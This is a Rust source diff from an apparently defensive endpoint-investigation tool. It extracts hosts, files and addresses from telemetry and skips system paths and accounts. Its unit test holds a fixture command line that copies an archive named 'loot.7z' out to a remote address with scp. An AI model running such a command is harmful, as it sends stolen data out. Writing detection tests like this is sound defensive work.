@@ -6,8 +6,11 @@ use casebook_protocol::claim::Corpus;
 use casebook_protocol::{Citation, Entity, EntityKind, EventTime, Locator, one_line};
 
 use super::Pick;
+use crate::analyst::account;
 use crate::analyst::facet::{Class, Facet};
+use crate::analyst::link::brought;
 use crate::analyst::rec::Rec;
+use crate::analyst::seed::patterns;
 
 pub(super) fn corpus(cited: &[&Pick<'_>]) -> Corpus {
     let mut corpus = Corpus::default();
@@ -67,6 +70,26 @@ fn installed(rec: &Rec) -> Vec<String> {
     if manager { words.by_ref().filter(name).take(6).map(str::to_owned).collect() } else { Vec::new() }
 }
 
+/// It is a part of every system, and nobody in particular.
+fn everywhere(kind: EntityKind, name: &str) -> bool {
+    const FOLDERS: &[&str] = &["/usr/bin/", "/usr/sbin/", "/usr/lib/", "/bin/", "/sbin/", "/lib/", "hklm\\", "hku\\"];
+    let lower = name.to_lowercase();
+    match kind {
+        EntityKind::User => account::of_system(name),
+        EntityKind::File => {
+            FOLDERS.iter().any(|f| lower.starts_with(f)) || lower.contains(":\\windows\\") && !brought(name)
+        }
+        _ => false,
+    }
+}
+
+/// The other ends that a command names, by which the network knows what it did.
+fn named_in(command: &str) -> impl Iterator<Item = (EntityKind, &str)> {
+    let ends = |kind: &EntityKind| matches!(kind, EntityKind::Address | EntityKind::Name);
+    let found = patterns().iter().filter(move |(_, kind)| ends(kind));
+    found.flat_map(|(pattern, kind)| pattern.find_iter(command).map(|hit| (*kind, hit.as_str())))
+}
+
 pub(super) fn entities(cited: &[&Pick<'_>], corpus: &Corpus) -> Vec<Entity> {
     const WHAT: [(Facet, EntityKind); 8] = [
         (Facet::Host, EntityKind::Host),
@@ -81,10 +104,15 @@ pub(super) fn entities(cited: &[&Pick<'_>], corpus: &Corpus) -> Vec<Entity> {
     let mut all: BTreeSet<Entity> = BTreeSet::new();
     for pick in cited {
         for (facet, kind) in WHAT {
-            if let Some(value) = pick.rec.facets.get(facet).filter(|v| v.len() <= 300) {
+            let value = pick.rec.facets.get(facet).filter(|v| v.len() <= 300);
+            if let Some(value) = value.filter(|v| !everywhere(kind, v)) {
+                // A program where any user may put one is a file that somebody brought.
+                let kind = if kind == EntityKind::Process && brought(value) { EntityKind::File } else { kind };
                 all.insert(Entity { kind, value: value.to_owned() });
             }
         }
+        let command = pick.rec.facets.get(Facet::Command).unwrap_or_default();
+        all.extend(named_in(command).map(|(kind, value)| Entity { kind, value: value.to_owned() }));
         let addresses = pick.rec.fields.values().filter(|v| v.parse::<std::net::Ipv4Addr>().is_ok());
         all.extend(addresses.take(4).map(|v| Entity { kind: EntityKind::Address, value: v.clone() }));
     }
@@ -100,6 +128,23 @@ mod tests {
 
     use super::*;
     use crate::analyst::facet::Facets;
+
+    #[test]
+    fn what_a_command_reaches_is_named_and_what_every_system_has_is_not() {
+        let fields = [
+            ("Image", "C:\\Users\\mara\\a.exe"),
+            ("CommandLine", "scp loot.7z mara@192.0.2.77:~"),
+            ("User", "NT AUTHORITY\\SYSTEM"),
+            ("TargetFilename", "C:\\Windows\\System32\\lsass.exe"),
+        ];
+        let fields = fields.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
+        let facets = Facets::read(&fields, "");
+        let rec = Rec::of(CallId::new("r1.investigate.endpoint.t1.0").unwrap(), fields, facets);
+        let pick = Pick { rec: &rec, kin: crate::analyst::link::Kin::Core, rank: 1 };
+        let named = entities(&[&pick], &corpus(&[&pick]));
+        let named: Vec<_> = named.iter().map(|e| (e.kind, e.value.as_str())).collect();
+        assert_eq!(named, [(EntityKind::Address, "192.0.2.77"), (EntityKind::File, "C:\\Users\\mara\\a.exe")]);
+    }
 
     /// The head of a record names the sensor, which is told of nothing.
     #[test]
